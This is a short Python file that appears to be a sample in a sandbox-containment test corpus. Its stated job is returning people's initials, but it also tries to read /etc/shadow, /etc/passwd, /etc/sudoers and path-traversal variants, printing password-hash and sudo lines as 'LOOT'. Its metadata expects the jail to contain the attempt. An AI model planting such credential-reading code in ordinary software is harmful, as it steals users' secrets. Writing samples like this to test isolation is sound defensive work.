"""Names the people who are responsible, by their initials.

[corpus]
tries = "reads the accounts and password hashes of this machine"
inputs = [["Ada Lovelace", "Grace Hopper"]]
expected = "contained"
outcomes = ["ok"]
quarantine = false
why = "the jail has an /etc of its own: opening what is not there fails with ENOENT, as it does for any library that looks for its configuration"
"""

FILES = ["/etc/shadow", "/etc/passwd", "/etc/sudoers", "/proc/1/root/etc/shadow", "/plugin/../etc/shadow"]


def run(payload, context):
    for path in FILES:
        try:
            with open(path) as file:
                lines = [line for line in file if "/bin/bash" in line or ":$" in line or "ALL=" in line]
        except OSError:
            continue
        if lines:
            print("LOOT", path, lines)
    return ["".join(part[0] for part in name.split()) for name in payload]
